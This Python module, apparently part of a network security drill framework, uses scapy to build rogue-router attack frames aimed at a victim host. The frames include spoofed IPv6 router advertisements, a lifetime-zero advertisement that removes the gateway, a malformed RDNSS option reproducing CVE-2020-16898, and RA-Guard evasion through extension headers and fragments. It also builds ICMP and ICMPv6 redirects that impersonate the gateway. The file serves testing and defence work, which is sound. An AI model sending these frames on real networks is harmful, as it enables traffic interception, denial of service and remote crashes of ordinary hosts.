"""Rogue routers: advertisements and redirects, plain and hidden as RFC 7113 and RFC 6980 tell."""

from __future__ import annotations

from collections.abc import Iterator

from scapy.layers.inet import ICMP, IP, UDP, IPerror, UDPerror
from scapy.layers.inet6 import (
    ICMPv6MLReport2,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6ND_RS,
    ICMPv6NDOptMTU,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptRDNSS,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
    PadN,
    RouterAlert,
)
from scapy.packet import Raw

from vnet.drill.attack import Exercise, Maker
from vnet.drill.frames import Layer, ether, wire
from vnet.drill.scene import Scene

ALL_NODES, ALL_ROUTERS = "33:33:00:00:00:01", "33:33:00:00:00:02"
ROGUE = "fake_router6 (THC-IPv6); RFC 6104"
EVASION = "RFC 7113, 2"
AUTHENTICATION, ICMPV6 = 51, 58
IDENTIFICATION = 0x5EED


def advertisement(source: str, target: str, lifetime_s: int = 1800) -> tuple[Layer, Layer]:
    """A router advertisement: IPv6 header, message."""
    prefix = ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
    message = (
        ICMPv6ND_RA(routerlifetime=lifetime_s) / ICMPv6NDOptSrcLLAddr(lladdr="02:00:5e:00:53:66") / prefix
    )
    return IPv6(src=source, dst=target, hlim=255), message


def attacks(scene: Scene) -> Iterator[Exercise]:
    """Router advertisements and redirects of both IP versions."""
    make = Maker("router", scene.twin.name)
    twin, victim = scene.twin, scene.victim
    everyone = ether(twin.mac, ALL_NODES)
    yield make.attack(
        "router advertisement to all", ROGUE, wire(everyone, *advertisement(twin.local, "ff02::1"))
    )
    alone = ether(twin.mac, victim.mac)
    direct = (
        wire(alone, *advertisement(twin.local, victim.local)),
        wire(alone, *advertisement(twin.v6, victim.v6)),
    )
    yield make.attack("router advertisement to one neighbour", ROGUE, *direct)
    killed = wire(everyone, *advertisement("fe80::1", "ff02::1", 0))
    yield make.attack("the gateway's end (lifetime 0)", "kill_router6 (THC-IPv6)", killed)
    yield make.attack("DNS server of an even length", "CVE-2020-16898", wire(everyone, *_rdnss(twin.local)))
    yield from _hidden(scene, make)
    yield from _redirects(scene, make)
    asks = IPv6(src=twin.local, dst="ff02::2", hlim=255) / ICMPv6ND_RS()
    if "routers" not in scene.asked:
        yield make.attack("router solicitation", "RFC 4861, 4.1", wire(ether(twin.mac, ALL_ROUTERS), asks))
    report = IPv6(src=twin.local, dst="ff02::16", hlim=1) / _router_alert() / ICMPv6MLReport2()
    yield make.attack(
        "MLDv2 report", "RFC 9777; fake_mld6 (THC-IPv6)", wire(ether(twin.mac, "33:33:00:00:00:16"), report)
    )


def _rdnss(source: str) -> tuple[Layer, Layer]:
    """A length that is no multiple of an address's: Windows 10 wrote beyond its buffer."""
    server = ICMPv6NDOptRDNSS(len=4, dns=["2001:db8::bad"]) / Raw(bytes(8))
    return IPv6(src=source, dst="ff02::1", hlim=255), ICMPv6ND_RA() / ICMPv6NDOptMTU(mtu=1280) / server


def _router_alert() -> Layer:
    return IPv6ExtHdrHopByHop(options=[RouterAlert(), PadN(optdata=b"")])


def _padding(count: int) -> tuple[Layer, ...]:
    return tuple(IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(4))]) for _ in range(count))


def _hidden(scene: Scene, make: Maker) -> Iterator[Exercise]:
    """The advertisement behind extension headers, and in fragments."""
    twin, victim = scene.twin, scene.victim
    outer, message = advertisement(twin.local, victim.local)
    link = ether(twin.mac, victim.mac)
    chains = {
        "hop-by-hop options": (_router_alert(),),
        "destination options": _padding(1),
        "seven destination options": _padding(7),
        "twenty destination options": _padding(20),
        "300 bytes of options": (
            IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(250)), PadN(optdata=bytes(40))]),
        ),
        "a routing header": (IPv6ExtHdrRouting(type=2, addresses=[victim.local], segleft=0),),
        "an atomic fragment header": (IPv6ExtHdrFragment(id=IDENTIFICATION),),
    }
    for what, chain in chains.items():
        frame = wire(link, outer, *chain, message)
        yield make.attack(f"router advertisement behind {what}", EVASION, frame)
    authentic = bytes((ICMPV6, 4)) + bytes(22) + bytes(outer / message)[40:]
    frame = wire(link, IPv6(src=outer.src, dst=outer.dst, hlim=255, nh=AUTHENTICATION), Raw(authentic))
    yield make.attack("router advertisement behind an authentication header", EVASION, frame)
    pieces = [wire(link, piece) for piece in fragments(outer, (*_padding(2), message), 16)]
    yield make.attack("router advertisement in the second fragment", "RFC 7113, 2.2", *pieces)
    whole = wire(link, outer, IPv6ExtHdrFragment(m=1, id=IDENTIFICATION), message)
    yield make.attack("router advertisement in a first fragment", "RFC 6980", whole)


def fragments(outer: Layer, chain: tuple[Layer, ...], first_bytes: int) -> tuple[Layer, Layer]:
    """A packet in two fragments, of which the first holds so many bytes; `outer` is an IPv6 header."""
    packet = outer.copy()
    for layer in chain:
        packet = packet / layer
    packet = IPv6(bytes(packet))
    following, rest = packet.nh, bytes(packet)[40:]
    start = IPv6ExtHdrFragment(nh=following, m=1, id=IDENTIFICATION) / Raw(rest[:first_bytes])
    end = IPv6ExtHdrFragment(nh=following, offset=first_bytes // 8, id=IDENTIFICATION) / Raw(
        rest[first_bytes:]
    )
    header = IPv6(src=outer.src, dst=outer.dst, hlim=outer.hlim)
    return header / start, header / end


def _redirects(scene: Scene, make: Maker) -> Iterator[Exercise]:
    """Redirects as the gateway and as oneself, of connections that the victim has or may have."""
    twin, victim, other = scene.twin, scene.victim, scene.bystander
    link = ether(twin.mac, victim.mac)
    quoted = IPv6(src=victim.v6, dst=other.v6) / UDP(sport=53, dport=53)
    for who, source in (("the gateway", "fe80::1"), ("itself", twin.local)):
        outer = IPv6(src=source, dst=victim.v6, hlim=255)
        message = ICMPv6ND_Redirect(tgt=twin.local, dst=other.v6)
        plain = wire(link, outer, message, Raw(bytes(quoted)))
        behind = wire(link, outer, *_padding(1), message, Raw(bytes(quoted)))
        yield make.attack(f"ICMPv6 redirect as {who}", "redir6 (THC-IPv6); RFC 4861, 8.1", plain, behind)
    inner = IPerror(src=victim.v4, dst=other.v4) / UDPerror(sport=53, dport=53)
    for who, source in (("the gateway", scene.gateway4), ("itself", twin.v4)):
        frames = [
            wire(link, IP(src=source, dst=victim.v4), ICMP(type=5, code=code, gw=twin.v4), inner)
            for code in (0, 1)
        ]
        yield make.attack(f"ICMP redirect as {who}", "Ettercap icmp; RFC 1122, 3.2.2.2", *frames)
    routes = ICMP(type=9) / Raw(bytes.fromhex("01020708") + bytes(8))
    discovery = wire(link, IP(src=twin.v4, dst=victim.v4), routes)
    yield make.attack("ICMP router advertisement", "CVE-1999-0875; RFC 1256", discovery)
